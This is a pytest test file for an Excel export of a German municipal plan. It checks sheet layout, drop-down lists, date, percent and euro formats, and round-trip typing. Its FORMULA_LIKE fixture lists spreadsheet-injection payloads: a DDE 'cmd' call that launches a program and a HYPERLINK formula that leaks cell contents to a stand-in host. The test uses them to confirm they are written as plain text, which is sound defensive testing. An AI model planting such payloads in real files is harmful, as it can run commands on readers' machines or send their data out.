"""The template and the export: the upload format, drop-downs, and cell types that survive a round trip."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter, range_boundaries
from python_calamine import CalamineWorkbook

from loaders.schema import INFO_SHEET, LISTS_SHEET, SHEETS, SHEETS_BY_NAME, Kind
from loaders.vocabulary import BOOL_FALSE, BOOL_TRUE, CANONICAL
from masterplan.exports.workbook import TEMPLATE_ROWS, write_workbook
from masterplan.tables import Plan

FORMULA_LIKE = (
    "=1+1", "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3", '=HYPERLINK("http://x/?"&A1)', "\t=1+1", "\r=1+1", "#N/A",
)
SHEET_NAMES = [INFO_SHEET, *(s.name for s in SHEETS), LISTS_SHEET]


def _plan() -> Plan:
    """A small Stand full of values that break naive exports."""
    measures = [
        {"nr": "M01", "massnahme": "Gründerzentrum Süd", "lz_nr": "LZ1", "federfuehrung": "ST01",
         "status": "in Umsetzung", "umsetzungsstand": 45.5, "beginn": dt.date(2024, 1, 15),
         "ende": dt.date(2026, 12, 31), "gewicht": 2, "kosten": 1234.5, "sachstand": "\x0bx"},
        {"nr": "M02", "massnahme": "Flächen", "lz_nr": "LZ1", "federfuehrung": "ST01", "umsetzungsstand": 100,
         "sachstand": "Ausführlicher Bericht. " * 20},
        *({"nr": f"M1{i}", "massnahme": text, "lz_nr": "LZ1", "federfuehrung": "ST01", "sachstand": text}
          for i, text in enumerate(FORMULA_LIKE)),
    ]
    return Plan.from_records({
        "Leitziele": [{"lz_nr": "LZ1", "leitziel": "Wirtschaft stärken – Äußeres Öl"}],
        "Maßnahmen": measures,
        "Stakeholder": [{"st_nr": "ST01", "name": "Wirtschaftsförderung", "typ": "Stadtverwaltung",
                         "lenkungskreis": True},
                        {"st_nr": "ST02", "name": "Industrie- und Handelskammer zu Essen", "kurzname": "IHK"}],
        "Beteiligungen": [{"nr": "M01", "st_nr": "ST02", "rolle": "beteiligt"}],
        "Indikatoren": [{"ind_nr": "IND01", "indikator": "Beschäftigte", "lz_nr": "LZ1", "basisjahr": 2019}],
        "Indikatorwerte": [{"ind_nr": "IND01", "stichtag": dt.date(2023, 12, 31), "wert": 81234}],
        "Beschlüsse": [{"beschluss_nr": "B-2025-03", "datum": dt.date(2025, 11, 19), "beschluss": "Pilot vorziehen",
                        "bezug": "M01", "zustaendig": "ST02", "frist": dt.date(2026, 3, 31), "status": "offen"}],
    })


@pytest.fixture(scope="module")
def template() -> bytes:
    return write_workbook()


@pytest.fixture(scope="module")
def export() -> bytes:
    return write_workbook(_plan())


def _rows(data: bytes, sheet: str) -> list[list]:
    """A sheet as calamine, the importer's reader, sees it."""
    return CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name(sheet).to_python()


def test_template_has_every_sheet_with_schema_headers(template: bytes) -> None:
    workbook = load_workbook(io.BytesIO(template))
    assert workbook.sheetnames == SHEET_NAMES
    assert CalamineWorkbook.from_filelike(io.BytesIO(template)).sheet_names == SHEET_NAMES
    assert workbook.active.title == INFO_SHEET and workbook[INFO_SHEET].sheet_state == "visible"
    for sheet in SHEETS:
        headers = [c.header for c in sheet.columns]
        ws = workbook[sheet.name]
        assert [cell.value for cell in ws[1]] == headers
        assert all(cell.font.bold for cell in ws[1])
        assert ws.freeze_panes == "A2"
        assert ws.auto_filter.ref.startswith("A1:")
        assert _rows(template, sheet.name) == [headers]


def test_lists_sheet_is_hidden_and_holds_every_vocabulary(template: bytes) -> None:
    ws = load_workbook(io.BytesIO(template))[LISTS_SHEET]
    assert ws.sheet_state == "hidden"
    columns = [[value for value in column[1:] if value is not None] for column in ws.iter_cols(values_only=True)]
    assert sorted(map(tuple, columns[:-1])) == sorted(CANONICAL.values())
    assert ws.cell(1, len(CANONICAL) + 1).value == ("Fokusprojekte: Federführung; Maßnahmen: Federführung; "
                                                   "Indikatoren: Federführung; Beteiligungen: ST-Nr.; "
                                                   "Beschlüsse: Zuständig")
    assert all(str(value).startswith("=IF(") for value in columns[-1])


def test_every_choice_column_has_a_drop_down_on_the_lists_sheet(template: bytes) -> None:
    workbook = load_workbook(io.BytesIO(template))
    for sheet in SHEETS:
        ws = workbook[sheet.name]
        by_range = {str(v.sqref): v for v in ws.data_validations.dataValidation}
        for index, column in enumerate(sheet.columns, start=1):
            letter = ws.cell(1, index).column_letter
            validation = by_range.get(f"{letter}2:{letter}{TEMPLATE_ROWS}")
            listed = column.kind in (Kind.CHOICE, Kind.BOOL) or len(column.ref) == 1
            assert (validation is not None) == (listed or bool(column.hint))
            assert (validation is not None and validation.type == "list") == listed, (sheet.name, column.header)
            if column.kind is Kind.CHOICE:
                assert validation.type == "list" and LISTS_SHEET in validation.formula1
                target, cells = validation.formula1.split("!")
                min_col, min_row, _, max_row = range_boundaries(cells.replace("$", ""))
                values = [workbook[target.strip("'")].cell(r, min_col).value for r in range(min_row, max_row + 1)]
                assert tuple(values) == CANONICAL[column.vocabulary]
            if column.kind is Kind.BOOL:
                assert validation.type == "list" and BOOL_TRUE[0] in validation.formula1
            if column.hint:
                assert validation.showInputMessage and validation.prompt == column.hint[:255]


def _growing(sheet: str, letter: str = "A", counted: str = "") -> str:
    """The drop-down source: from row 2 down as many rows as ``counted`` (default: ``sheet``) has keys."""
    counted = counted or sheet
    return f"OFFSET('{sheet}'!${letter}$2,0,0,MAX(1,COUNTA('{counted}'!$A:$A)-1),1)"


STAKEHOLDER_LABELS = _growing(LISTS_SHEET, get_column_letter(len(CANONICAL) + 1), "Stakeholder")
REFERENCE_LISTS = {
    ("Fokusprojekte", "LZ-Nr."): _growing("Leitziele"),
    ("Fokusprojekte", "Federführung"): STAKEHOLDER_LABELS,
    ("Maßnahmen", "LZ-Nr."): _growing("Leitziele"),
    ("Maßnahmen", "FP-Nr."): _growing("Fokusprojekte"),
    ("Maßnahmen", "Federführung"): STAKEHOLDER_LABELS,
    ("Meilensteine", "Nr."): _growing("Maßnahmen"),
    ("Indikatoren", "LZ-Nr."): _growing("Leitziele"),
    ("Indikatorwerte", "IND-Nr."): _growing("Indikatoren"),
    ("Beteiligungen", "ST-Nr."): STAKEHOLDER_LABELS,
    ("Beschlüsse", "Zuständig"): STAKEHOLDER_LABELS,
}


def _list_validations(data: bytes) -> dict[tuple[str, str], tuple[str, str, str]]:
    """(sheet, header) → (cells, drop-down source, error text) of every list validation."""
    workbook = load_workbook(io.BytesIO(data))
    found = {}
    for sheet in SHEETS:
        ws = workbook[sheet.name]
        headers = {cell.column_letter: cell.value for cell in ws[1]}
        for validation in ws.data_validations.dataValidation:
            if validation.type == "list":
                header = headers[str(validation.sqref)[0]]
                found[sheet.name, header] = (str(validation.sqref), validation.formula1, validation.error)
    return found


@pytest.mark.parametrize("data", ["template", "export"])
def test_reference_columns_offer_the_workbooks_own_keys(data: str, request: pytest.FixtureRequest) -> None:
    content = request.getfixturevalue(data)
    validations = _list_validations(content)
    for (sheet, header), source in REFERENCE_LISTS.items():
        letter = get_column_letter([c.header for c in SHEETS_BY_NAME[sheet].columns].index(header) + 1)
        cells, formula, error = validations[sheet, header]
        assert (cells, formula) == (f"{letter}2:{letter}{TEMPLATE_ROWS}", source), (sheet, header)
        assert error == (
            "Bitte einen Eintrag aus der Liste wählen. ST-Nr., Kurzname oder Name aus dem Blatt Stakeholder "
            "werden beim Hochladen ebenfalls erkannt." if source == STAKEHOLDER_LABELS else
            "Bitte eine Kennung aus der Liste wählen: unbekannte Kennungen sind beim Hochladen Fehler.")
    assert ("Beteiligungen", "Nr.") not in validations  # Maßnahme or Fokusprojekt: no single list to offer
    assert ("Beschlüsse", "Maßnahme/Leitziel") not in validations  # Maßnahme or Leitziel, likewise


def test_template_offers_the_decisions_sheet_with_a_status_drop_down(template: bytes) -> None:
    ws = load_workbook(io.BytesIO(template))["Beschlüsse"]
    assert [cell.value for cell in ws[1]] == ["Nr.", "Datum", "Beschluss", "Maßnahme/Leitziel", "Zuständig", "Frist",
                                              "Status"]
    status = next(v for v in ws.data_validations.dataValidation if str(v.sqref) == f"G2:G{TEMPLATE_ROWS}")
    lists = load_workbook(io.BytesIO(template))[LISTS_SHEET]
    column = range_boundaries(status.formula1.split("!")[1].replace("$", ""))[0]
    assert [row[0] for row in lists.iter_rows(min_col=column, max_col=column, min_row=2, max_row=4,
                                              values_only=True)] == ["offen", "erledigt", "verworfen"]
    assert status.type == "list" and status.prompt == "offen, erledigt oder verworfen; leer = offen"
    frist = next(v for v in ws.data_validations.dataValidation if str(v.sqref) == f"F2:F{TEMPLATE_ROWS}")
    assert frist.prompt == "TT.MM.JJJJ, nicht vor dem Datum"


def test_export_writes_decisions_as_the_importer_reads_them(export: bytes) -> None:
    header, decision = _rows(export, "Beschlüsse")
    assert dict(zip(header, decision, strict=True)) == {
        "Nr.": "B-2025-03", "Datum": dt.date(2025, 11, 19), "Beschluss": "Pilot vorziehen", "Maßnahme/Leitziel": "M01",
        "Zuständig": "ST02 – IHK", "Frist": dt.date(2026, 3, 31), "Status": "offen"}


def test_lists_sheet_labels_every_stakeholder_row_by_formula(export: bytes) -> None:
    ws = load_workbook(io.BytesIO(export))[LISTS_SHEET]
    labels = [row[0] for row in ws.iter_rows(min_col=len(CANONICAL) + 1, max_col=len(CANONICAL) + 1,
                                             values_only=True)]
    assert labels[1] == ("=IF('Stakeholder'!$A2=\"\",\"\",'Stakeholder'!$A2&\" – \"&"
                         "IF('Stakeholder'!$C2<>\"\",'Stakeholder'!$C2,'Stakeholder'!$B2))")
    assert len(labels) == 1 + 2 + 1000  # header, the two stakeholders, room for new ones
    assert labels[-1].startswith("=IF('Stakeholder'!$A1003=")


def test_export_names_the_institution_behind_each_st_nr(export: bytes) -> None:
    header, *measures = _rows(export, "Maßnahmen")
    assert {row[header.index("Federführung")] for row in measures} == {"ST01 – Wirtschaftsförderung"}
    assert _rows(export, "Beteiligungen")[1] == ["M01", "ST02 – IHK", "beteiligt"]
    assert [row[0] for row in _rows(export, "Stakeholder")[1:]] == ["ST01", "ST02"]  # the key itself stays bare


def test_formula_like_text_is_written_as_text(export: bytes) -> None:
    ws = load_workbook(io.BytesIO(export))["Maßnahmen"]
    header = [cell.value for cell in ws[1]]
    texts = {}
    for row in ws.iter_rows(min_row=2):
        for cell in (row[header.index("Maßnahme")], row[header.index("Sachstand")]):
            if cell.value is not None:
                texts[cell.value] = cell.data_type
    for text in FORMULA_LIKE:
        assert texts[text] == "s", text
    assert texts["x"] == "s"  # the \x0b was stripped instead of failing the export


def test_values_come_back_typed_through_calamine(export: bytes) -> None:
    header, first, second, *_ = _rows(export, "Maßnahmen")
    measure = dict(zip(header, first, strict=True))
    assert measure["Maßnahme"] == "Gründerzentrum Süd"
    assert measure["Umsetzungsstand"] == pytest.approx(0.455)
    assert dict(zip(header, second, strict=True))["Umsetzungsstand"] == 1.0
    assert measure["Beginn"] == dt.date(2024, 1, 15) and measure["Ende"] == dt.date(2026, 12, 31)
    assert measure["Kosten"] == 1234.5 and measure["Gewicht"] == 2
    assert measure["Status"] == "in Umsetzung" and measure["Ampel"] == ""
    assert _rows(export, "Leitziele")[1][1] == "Wirtschaft stärken – Äußeres Öl"
    assert _rows(export, "Stakeholder")[1][4] == BOOL_TRUE[0]
    assert _rows(export, "Indikatoren")[1][7] == 2019  # Basisjahr
    assert _rows(export, "Indikatorwerte")[1][:3] == ["IND01", dt.date(2023, 12, 31), 81234]


def test_number_formats_show_percent_dates_and_euro(export: bytes) -> None:
    ws = load_workbook(io.BytesIO(export))["Maßnahmen"]
    header = [cell.value for cell in ws[1]]
    first, second = ws[2], ws[3]
    assert first[header.index("Umsetzungsstand")].number_format == "0.0%"
    assert second[header.index("Umsetzungsstand")].number_format == "0%"
    assert first[header.index("Beginn")].number_format == "DD.MM.YYYY"
    assert first[header.index("Beginn")].is_date
    assert "€" in first[header.index("Kosten")].number_format
    assert second[header.index("Beginn")].value is None


def test_bool_false_is_nein() -> None:
    plan = Plan.from_records({"Stakeholder": [{"st_nr": "ST01", "name": "IHK", "lenkungskreis": False}]})
    assert _rows(write_workbook(plan), "Stakeholder")[1][4] == BOOL_FALSE[0]


def test_info_sheet_explains_every_column(template: bytes) -> None:
    text = " ".join(str(value) for row in _rows(template, INFO_SHEET) for value in row)
    for sheet in SHEETS:
        assert sheet.name in text and sheet.description in text
        for column in sheet.columns:
            assert all(name in text for name in column.all_names), column.header
    assert all(value in text for values in CANONICAL.values() for value in values)


def test_long_text_wraps_in_a_bounded_column(export: bytes) -> None:
    ws = load_workbook(io.BytesIO(export))["Maßnahmen"]
    header = [cell.value for cell in ws[1]]
    notes = ws.cell(3, header.index("Sachstand") + 1)
    assert notes.alignment.wrap_text
    assert 20 <= ws.column_dimensions[notes.column_letter].width <= 60
